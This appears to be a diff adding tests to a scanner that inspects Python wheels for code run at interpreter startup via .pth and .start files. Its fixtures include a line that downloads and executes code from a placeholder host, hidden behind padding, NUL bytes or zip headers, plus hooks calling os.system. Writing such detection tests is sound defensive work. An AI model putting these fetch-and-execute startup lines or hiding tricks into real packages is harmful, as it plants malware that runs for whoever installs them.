@@ -128,8 +128,9 @@ START = b"import os, urllib.request; exec(urllib.request.urlopen('https://c.exam
         b"# \0\n" + START,  # a NUL makes no weights of it
         b"PK\x03\x04\n" + START + b"\n\x80\xff",  # nor do a zip's first letters, or what is no text behind it
         b"#" + b"x" * (9 << 20) + b"\n" + START,
+        b" \t" + START,  # blanks before it, of which 3.15 takes no notice
     ],
-    ids=["plain", "carriage return", "byte order mark", "form feed", "NUL", "letters of a zip", "after 9 MB"],
+    ids=["plain", "carriage return", "byte order mark", "form feed", "NUL", "letters of a zip", "after 9 MB", "blanks"],
 )
 def test_a_start_line_is_seen_however_the_file_hides_it(data: bytes, tmp_path: Path, pool: Pool) -> None:
     facts = look_inside(put(tmp_path, "a.whl", wheel({"demo.pth": data})), pool)
@@ -137,6 +138,38 @@ def test_a_start_line_is_seen_however_the_file_hides_it(data: bytes, tmp_path: P
         ("start-hook", Moment.START),
         ("runs-downloaded", Moment.START),
     }
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"demo.hook:go\n",
+        b"# a\n\n  demo.hook:go  ",
+        b"\xef\xbb\xbfdemo.hook:go",
+        b"demo.hook:Hook.go",
+        b"not one\n1demo:go\ndemo.hook:\ndemo.hook:go",
+        b"#" * (2 << 20) + b"\ndemo.hook:go",
+    ],
+    ids=["plain", "behind a comment", "byte order mark", "of a class", "behind what Python passes over", "after 2 MB"],
+)
+def test_an_entry_point_that_python_calls_at_its_start_is_followed(data: bytes, tmp_path: Path, pool: Pool) -> None:
+    """PEP 829: Python 3.15 imports the module and calls the function, for each line of a `.start`."""
+    hook = b"import os\ndef go():\n    os.system('id')\nclass Hook:\n    def go():\n        os.system('id')\n"
+    files = {"demo/__init__.py": b"", "demo/hook.py": hook, "demo.start": data}
+    facts = look_inside(put(tmp_path, "a.whl", wheel(files)), pool)
+    assert {(fact.behaviour, fact.moment, fact.member) for fact in facts.code} >= {
+        ("start-hook", Moment.START, "demo.start"),
+        ("runs-command", Moment.START, "demo/hook.py"),
+    }
+    assert len([fact for fact in facts.code if fact.behaviour == "start-hook"]) == 1
+
+
+def test_a_start_file_without_an_entry_point_runs_nothing(tmp_path: Path, pool: Pool) -> None:
+    files = {
+        "demo/__init__.py": b"",
+        "demo.start": b"# nothing\nimport os; os.system('id')\nprose: of a kind\nhttp://a.example:1\n",
+    }
+    assert look_inside(put(tmp_path, "a.whl", wheel(files)), pool).code == ()
 
 
 def test_lines_of_a_start_file_are_followed_up_to_a_number_and_the_others_are_a_gap(tmp_path: Path, pool: Pool) -> None:
